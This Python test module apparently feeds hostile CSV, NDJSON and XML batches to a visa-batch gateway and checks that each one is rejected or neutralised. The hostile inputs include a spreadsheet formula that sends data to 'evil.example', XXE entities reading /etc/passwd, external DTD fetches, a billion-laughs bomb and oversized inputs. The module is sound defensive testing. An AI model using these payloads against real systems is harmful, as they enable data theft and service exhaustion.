"""Batches in CSV, NDJSON and XML that are broken or made to cost."""

from __future__ import annotations

import gzip
import io
import json
import re
import time
from collections.abc import Callable, Iterator, Mapping
from datetime import date
from itertools import chain, repeat
from itertools import count as counting
from typing import Any, Final

from adapters.service_centers import MEDIA_TYPES
from adapters.service_centers.batch_writer import write_batch
from adapters.service_centers.sample import sample_batch
from tests.hostile.row import Act, Row, Told, lines_of
from tests.hostile.site import CANARY, Site, application, batch_request, header, ndjson_batch
from tests.hostile.wire import chunked

_CSV: Final = MEDIA_TYPES["csv"]
_NDJSON: Final = MEDIA_TYPES["ndjson"]
_XML: Final = MEDIA_TYPES["xml"]
_MB: Final = 1_048_576
#: What a spreadsheet would call, in a field that its sender chooses.
_seeds = counting(7_000)
_FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1)'


def written(name: str, *applications: Mapping[str, Any]) -> bytes:
    """A batch in that format, of these or of one good application."""
    out = io.BytesIO()
    write_batch(name, header(), applications or [application()], out)
    return out.getvalue()


def _posted(media: str, body: Callable[[], bytes], **options: Any) -> Callable[[Site], Act]:
    def prepare(site: Site) -> Act:
        sent = batch_request(site.gateway, body(), media, **options)
        return lambda: lines_of(site.gateway.send(sent))

    return prepare


def _streamed(media: str, pieces: Callable[[], Iterator[bytes]]) -> Callable[[Site], Act]:
    """Without a length: nothing can be refused by its size before it has come."""

    def prepare(site: Site) -> Act:
        head = batch_request(site.gateway, b"", media, headers={"Transfer-Encoding": "chunked"})
        sent = [head, *chunked(pieces())]
        return lambda: lines_of(site.gateway.send(sent))

    return prepare


def _in(text: bytes, old: str, new: str | bytes) -> bytes:
    sought = old.encode()
    assert sought in text, old
    return text.replace(sought, new if isinstance(new, bytes) else new.encode(), 1)


# --- CSV --------------------------------------------------------------------------------------------------


def _cell(value: str) -> bytes:
    return _in(written("csv"), f"{CANARY} Street", value)


def _ragged() -> bytes:
    head, good, longer, shorter, _ = written("csv", *(application() for _ in range(3))).split(b"\r\n")
    return b"\r\n".join([head, good, longer + b",more", shorter.rpartition(b",")[0], b""])


def _repeated_header() -> bytes:
    return _in(written("csv"), "visa_type", "reference")


def _twice() -> tuple[dict[str, Any], dict[str, Any]]:
    one = application()
    return one, {**one, "reference": "A000002"}


def _formula_back(site: Site) -> Act:
    """A line's reference comes back in the results: as text, whatever it begins with."""
    line = application(reference=_FORMULA)
    sent = batch_request(site.gateway, written("csv", application(), line), _CSV)

    def act() -> Told:
        receipt = site.gateway.send(sent)
        found = site.gateway.get(f"/v1/batches/{receipt.document['batch_id']}/results", accept="text/csv")
        cells = re.split(rb'[,\r\n]+"?', found.body)
        live = [cell for cell in cells if cell[:1] in (b"=", b"+", b"-", b"@", b"\t")]
        return Told(f"{found.status}, {len(live)} cells that begin like a formula", found.raw)

    return act


# --- NDJSON -----------------------------------------------------------------------------------------------


def _one_bad(count: int) -> Callable[[Site], Act]:
    """Validated only, so that what is timed is the reading; what the good lines cost does not count."""

    def prepare(site: Site) -> Act:
        good = ndjson_batch(*sample_batch(count, next(_seeds), date.today(), clean=True)[1])  # noqa: DTZ011
        lines = good.splitlines()
        lines[count // 2] = b'{"reference":'
        whole, spoilt = [
            batch_request(site.gateway, body, _NDJSON, query="?dry_run=true")
            for body in (good, b"\n".join(lines))
        ]
        began = time.perf_counter()
        site.gateway.send(whole)
        usual_s = time.perf_counter() - began

        def act() -> Told:
            began = time.perf_counter()
            told = lines_of(site.gateway.send(spoilt))
            return Told(told.answer, told.bytes_back, max(0.0, time.perf_counter() - began - usual_s))

        return act

    return prepare


def _long_line() -> Iterator[bytes]:
    return chain(
        [
            json.dumps(header()).encode() + b'\n{"reference":"',
        ],
        repeat(CANARY.encode() * (_MB // len(CANARY)), 100_000_000 // _MB + 1),
        [b'"}\n', json.dumps(application()).encode(), b"\n"],
    )


def _cut() -> bytes:
    return ndjson_batch(application(), application())[:-40]


# --- XML --------------------------------------------------------------------------------------------------


def _xml(old: str, new: str | bytes) -> Callable[[], bytes]:
    return lambda: _in(written("xml"), old, new)


def _doctype(inside: str) -> Callable[[Site], Act]:
    """`{port}` is where nobody must ever come."""

    def prepare(site: Site) -> Act:
        declared = inside.replace("{port}", str(site.partner.elsewhere))
        body = _in(written("xml"), "<visa_batch", f"{declared}<visa_batch")
        sent = batch_request(site.gateway, body, _XML)
        return lambda: lines_of(site.gateway.send(sent))

    return prepare


def _schema_location(site: Site) -> Act:
    where = f"http://127.0.0.1:{site.partner.elsewhere}/x.xsd"
    new = (
        '<visa_batch xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
        f'i:schemaLocation="urn:umrah:service-centers:visa-batch:v1 {where}"'
    )
    sent = batch_request(site.gateway, _in(written("xml"), "<visa_batch", new), _XML)
    return lambda: lines_of(site.gateway.send(sent))


_LAUGHS: Final = (
    "<!DOCTYPE a ["
    + '<!ENTITY e0 "ha">'
    + "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    + "]>"
)
_XSI: Final = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance"'


def _utf16(body: bytes) -> bytes:
    return body.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def _csv_rows() -> Iterator[Row]:
    section, one = "CSV", "202, 0 accepted, 1 rejected: "
    yield Row(
        section,
        "a field of 131,073 characters",
        _posted(_CSV, lambda: _cell("x" * 131_073)),
        f"{one}too_long",
        door="csv",
        refused=False,
    )
    yield Row(
        section,
        "a field of 131,073 characters, quoted",
        _posted(_CSV, lambda: _cell('"' + "x,\n" * 43_691 + '"')),
        f"{one}too_long",
        door="csv",
        refused=False,
    )
    yield Row(
        section,
        "ragged rows",
        _posted(_CSV, _ragged),
        "202, 1 accepted, 2 rejected: invalid_csv",
        door="csv",
        refused=False,
    )
    yield Row(section, "repeated header", _posted(_CSV, _repeated_header), "400 duplicate_key", door="csv")
    yield Row(
        section,
        "UTF-16",
        _posted(_CSV, lambda: written("csv").decode().encode("utf-16")),
        "400 encoding_not_utf8",
        door="csv",
    )
    yield Row(
        section,
        "cp1256",
        _posted(_CSV, lambda: written("csv").decode().encode("cp1256", "replace")),
        "400 encoding_not_utf8",
        door="csv",
    )
    yield Row(
        section,
        "cp1256, announced as such",
        _posted(_CSV + "; charset=windows-1256", lambda: written("csv")),
        "415 encoding_not_utf8",
        door="csv",
    )
    yield Row(
        section,
        "the same passport twice",
        _posted(_CSV, lambda: written("csv", *_twice())),
        "202, 1 accepted, 1 rejected: duplicate_in_batch",
        door="csv",
        refused=False,
    )
    yield Row(
        section,
        "header only",
        _posted(_CSV, lambda: written("csv").split(b"\r\n")[0] + b"\r\n"),
        "422 batch_empty",
        door="csv",
        canaries=(),
    )
    yield Row(
        section,
        "NUL bytes",
        _posted(_CSV, lambda: _cell("a\0b")),
        f"{one}invalid_format",
        door="csv",
        refused=False,
    )
    yield Row(
        section,
        "1 MB of commas",
        _posted(_CSV, lambda: written("csv") + b"," * _MB + b"\r\n"),
        "202, 1 accepted, 1 rejected: line_too_long",
        door="csv",
        refused=False,
    )
    yield Row(
        section,
        "a quote that never ends, 20 MB",
        _posted(_CSV, lambda: written("csv") + b'"' + b"x\n" * (10 * _MB)),
        "202, 1 accepted, 1 rejected: line_too_long",
        door="csv",
        refused=False,
    )
    yield Row(
        section,
        "a formula for a reference, fetched as CSV",
        _formula_back,
        "200, 0 cells that begin like a formula",
        door="csv",
        refused=False,
        note="a reference comes back as its sender's own, with an apostrophe",
    )


def _ndjson_rows() -> Iterator[Row]:
    section = "NDJSON"
    only = "`dry_run`; the time beyond that of the same batch without it"
    yield Row(
        section,
        "one bad line of 1,000",
        _one_bad(1_000),
        "200, 999 accepted, 1 rejected: invalid_json",
        door="ndjson",
        note=only,
    )
    yield Row(
        section,
        "one bad line of 10,000",
        _one_bad(10_000),
        "200, 9999 accepted, 1 rejected: invalid_json",
        door="ndjson",
        note=only,
        long=True,
    )
    yield Row(
        section,
        "a line of 100 MB",
        _streamed(_NDJSON, _long_line),
        "202, 1 accepted, 1 rejected: line_too_long",
        door="ndjson",
        refused=False,
    )
    yield Row(
        section,
        "cut last line",
        _posted(_NDJSON, _cut),
        "202, 1 accepted, 1 rejected: line_truncated",
        door="ndjson",
        refused=False,
    )
    yield Row(
        section,
        "5 MB of blank lines",
        _posted(_NDJSON, lambda: json.dumps(header()).encode() + b"\n" * (5 * _MB)),
        "422 batch_empty",
        door="ndjson",
    )


def _xml_rows() -> Iterator[Row]:
    section, one = "XML batch", "202, 0 accepted, 1 rejected: "
    door: dict[str, Any] = {"door": "xml"}
    yield Row(section, "a doctype", _doctype("<!DOCTYPE visa_batch>"), "400 doctype_forbidden", **door)
    yield Row(
        section, "an entity", _doctype("<!DOCTYPE a [<!ENTITY e 'x'>]>"), "400 doctype_forbidden", **door
    )
    yield Row(section, "a billion laughs", _doctype(_LAUGHS), "400 doctype_forbidden", **door)
    yield Row(
        section,
        "an external DTD",
        _doctype('<!DOCTYPE a SYSTEM "http://127.0.0.1:{port}/a.dtd">'),
        "400 doctype_forbidden",
        note="the address is not asked",
        **door,
    )
    yield Row(
        section,
        "an external entity of this machine",
        _doctype("<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
        "400 doctype_forbidden",
        **door,
    )
    yield Row(
        section,
        "a parameter entity",
        _doctype('<!DOCTYPE a [<!ENTITY % e SYSTEM "http://127.0.0.1:{port}/e"> %e;]>'),
        "400 doctype_forbidden",
        note="the address is not asked",
        **door,
    )
    yield Row(
        section,
        "a schema location",
        _schema_location,
        "202, 1 accepted",
        refused=False,
        note="the address is not asked",
        **door,
    )
    yield Row(
        section,
        "UTF-16 with a doctype",
        _posted(_XML, lambda: _utf16(_in(written("xml"), "<visa_batch", "<!DOCTYPE a><visa_batch"))),
        "400 doctype_forbidden",
        **door,
    )
    yield Row(
        section,
        "UTF-7 by its declaration",
        _posted(_XML, _xml('encoding="UTF-8"', 'encoding="UTF-7"')),
        "400 encoding_not_utf8",
        **door,
    )
    yield Row(
        section,
        "depth 300",
        _posted(_XML, _xml("<sex>M", "<a>" * 300 + "</a>" * 300 + "<sex>M")),
        "400 nesting_too_deep",
        **door,
    )
    yield Row(
        section,
        "1,000,000 empty elements",
        _posted(_XML, _xml("<sex>M", "<a/>" * 1_000_000 + "<sex>M")),
        "400 too_many_elements",
        **door,
    )
    yield Row(
        section,
        "100,000 attributes",
        _posted(_XML, _xml("<sex>M", "<sex " + " ".join(f"a{n}='1'" for n in range(100_000)) + ">M")),
        "400 invalid_xml",
        **door,
    )
    yield Row(
        section,
        "text of 11 MB",
        _posted(_XML, _xml(f"{CANARY} Street", CANARY + "x" * 11_000_000)),
        f"{one}line_too_long",
        refused=False,
        **door,
    )
    yield Row(
        section,
        "`xsi:nil`",
        _posted(_XML, _xml("<sex>M", f'<sex {_XSI} i:nil="true">M')),
        f"{one}unknown_field",
        refused=False,
        **door,
    )
    yield Row(
        section,
        "`xsi:type`",
        _posted(_XML, _xml("<sex>M", f'<sex {_XSI} i:type="x">M')),
        f"{one}unknown_field",
        refused=False,
        **door,
    )
    yield Row(
        section,
        "a comment inside a passport number",
        _posted(_XML, lambda: re.sub(rb"(<number>..)", rb"\1<!-- -->", written("xml"))),
        f"{one}invalid_xml",
        refused=False,
        **door,
    )
    yield Row(
        section,
        "CDATA inside a passport number",
        _posted(_XML, lambda: re.sub(rb"(<number>)(..)", rb"\1<![CDATA[\2]]>", written("xml"))),
        "202, 1 accepted",
        refused=False,
        **door,
    )
    yield Row(
        section,
        "year 99999",
        _posted(_XML, lambda: re.sub(rb"<birth_date>[^<]*", b"<birth_date>99999-01-01", written("xml"))),
        f"{one}too_long",
        refused=False,
        **door,
    )
    yield Row(
        section,
        "gzip, not announced",
        _posted(_XML, lambda: gzip.compress(written("xml"))),
        "400 encoding_not_utf8",
        **door,
    )
    yield Row(
        section, "cut in the middle", _posted(_XML, lambda: written("xml")[:-30]), "400 invalid_xml", **door
    )


ROWS: Final = (*_csv_rows(), *_ndjson_rows(), *_xml_rows())
